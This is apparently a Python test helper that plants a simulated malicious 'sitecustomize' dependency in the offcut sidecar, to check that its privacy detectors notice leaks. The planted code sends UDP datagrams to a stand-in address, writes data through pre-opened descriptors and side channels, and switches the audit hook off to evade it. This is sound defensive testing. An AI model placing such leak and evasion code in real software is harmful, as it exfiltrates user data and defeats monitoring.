"""A compromised dependency, planted in a real ``offcut serve`` process for the privacy tests.

The detectors (audit mode, the strace parser, the /proc sampler, the namespace counter) are only
worth something if they notice a leak, so the tests also run the sidecar with this planted: a
``sitecustomize`` module, imported by Python before ``offcut`` starts, as a malicious package on
the path would be. It opens its files before audit mode starts (like a dependency's import-time
code) and attacks on every segment request, from a handler on the sidecar's own log.

Attacks are chosen with ``OFFCUT_HOSTILE`` (comma-separated names from ``ATTACKS``); files go to
``OFFCUT_HOSTILE_DIR``. With ``OFFCUT_HOSTILE_EVADE=1`` it switches audit mode off around its
attacks (any code inside the process can), which is how the tests show that the outside
detectors do not depend on the hook. Each request's outcomes are printed on stderr as one
``{"event": "hostile", "results": {...}}`` line: ``allowed``, ``blocked`` (PermissionError from
audit mode) or ``failed:ERRNO``.

Datagrams go to 198.51.100.7 (TEST-NET-2, RFC 5737) with ``MSG_DONTROUTE`` unless noted, so
even where nothing stops them they fail locally (no directly connected route) and never leave the
machine; strace still records the attempt with its destination.
"""

from __future__ import annotations

import json
import os
import time
from pathlib import Path

from tests.conftest import SIDECAR_SRC, Sidecar

TARGET = ("198.51.100.7", 9)

ATTACKS = (
    "preopened_fd",  # os.write on a descriptor opened before audit mode started
    "preopened_file",  # a Python file object opened before audit mode started
    "udp_sendto",  # an unconnected UDP datagram (MSG_DONTROUTE)
    "udp_routed",  # the same, routed normally: only where a test owns the route (a namespace)
    "udp_connected",  # a UDP socket connected to TARGET and kept open (connect sends nothing)
    "mkfifo",
    "mknod",
    "setxattr",
    "sqlite",
    "ctypes_mkfifo",  # libc's mkfifo through a ctypes handle loaded before audit mode
    "write_file",  # a file opened for writing during a request and kept open
)

SITECUSTOMIZE = r"""
import errno, json, logging, os, socket, stat, sys

_ATTACKS = [a for a in os.environ.get("OFFCUT_HOSTILE", "").split(",") if a]
_DIR = os.environ.get("OFFCUT_HOSTILE_DIR", "")
_EVADE = os.environ.get("OFFCUT_HOSTILE_EVADE") == "1"
_TARGET = ("198.51.100.7", 9)
_held = []

if _ATTACKS:
    def _p(name):
        return os.path.join(_DIR, name)

    _fd = _fobj = _libc = None
    if "preopened_fd" in _ATTACKS:
        _fd = os.open(_p("preopened.bin"), os.O_WRONLY | os.O_CREAT | os.O_APPEND, 0o600)
    if "preopened_file" in _ATTACKS:
        _fobj = open(_p("preopened-file.bin"), "ab", buffering=0)
    if "setxattr" in _ATTACKS:
        open(_p("xattr-target"), "wb").close()
    if "ctypes_mkfifo" in _ATTACKS:
        import ctypes
        _libc = ctypes.CDLL(None, use_errno=True)

    def _udp(flags):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.sendto(b"pixels", flags, _TARGET)

    def _attack(name):
        if name == "preopened_fd":
            os.write(_fd, b"pixels")
        elif name == "preopened_file":
            _fobj.write(b"pixels")
        elif name == "udp_sendto":
            _udp(socket.MSG_DONTROUTE)
        elif name == "udp_routed":
            _udp(0)
        elif name == "udp_connected":
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            s.connect(_TARGET)
            _held.append(s)
        elif name == "mkfifo":
            os.mkfifo(_p("fifo"))
        elif name == "mknod":
            os.mknod(_p("node"), 0o600 | stat.S_IFREG)
        elif name == "setxattr":
            os.setxattr(_p("xattr-target"), "user.offcut", b"pixels")
        elif name == "sqlite":
            import sqlite3
            sqlite3.connect(_p("leak.db")).execute("create table t(x)")
        elif name == "ctypes_mkfifo":
            if _libc.mkfifo(_p("ctypes-fifo").encode(), 0o600) != 0:
                raise OSError(ctypes.get_errno(), "mkfifo")
        elif name == "write_file":
            _held.append(open(_p("late.bin"), "wb"))

    class _Leak(logging.Handler):
        def emit(self, record):
            if '"event": "segment"' not in str(record.msg):
                return
            audit = sys.modules.get("offcut.server.audit")
            if _EVADE and audit is not None:
                audit._enabled = False
            results = {}
            try:
                for name in _ATTACKS:
                    try:
                        _attack(name)
                        results[name] = "allowed"
                    except PermissionError:
                        results[name] = "blocked"
                    except OSError as exc:
                        results[name] = "failed:" + errno.errorcode.get(exc.errno or 0, "?")
            finally:
                if _EVADE and audit is not None:
                    audit._enabled = True
            sys.stderr.write(json.dumps({"event": "hostile", "results": results}) + "\n")
            sys.stderr.flush()

    logging.getLogger("offcut.sidecar").addHandler(_Leak())
"""


def plant(folder: Path, attacks: list[str], evade: bool = False) -> dict[str, str]:
    """Write the hostile ``sitecustomize`` under ``folder`` and return the environment entries
    that make a sidecar import it (``folder/victim`` is where its files go)."""
    unknown = set(attacks) - set(ATTACKS)
    assert not unknown, unknown
    site = folder / "site"
    victim = folder / "victim"
    site.mkdir(parents=True)
    victim.mkdir()
    (site / "sitecustomize.py").write_text(SITECUSTOMIZE)
    return {
        "PYTHONPATH": f"{site}{os.pathsep}{SIDECAR_SRC}",
        "OFFCUT_HOSTILE": ",".join(attacks),
        "OFFCUT_HOSTILE_DIR": str(victim),
        "OFFCUT_HOSTILE_EVADE": "1" if evade else "0",
    }


def results(stderr_lines: list[str]) -> list[dict[str, str]]:
    """The planted code's per-request outcomes, in order."""
    return [json.loads(ln)["results"] for ln in stderr_lines if '"event": "hostile"' in ln]


def wait(sidecar: Sidecar, count: int, timeout: float = 20.0) -> list[dict[str, str]]:
    """The planted code attacks from the sidecar's log handler, which runs just after the reply
    has gone out: wait for its report of ``count`` requests before reading counters or stopping
    the sidecar."""
    deadline = time.monotonic() + timeout
    while len(results(sidecar.stderr_lines)) < count and time.monotonic() < deadline:
        time.sleep(0.05)
    return results(sidecar.stderr_lines)
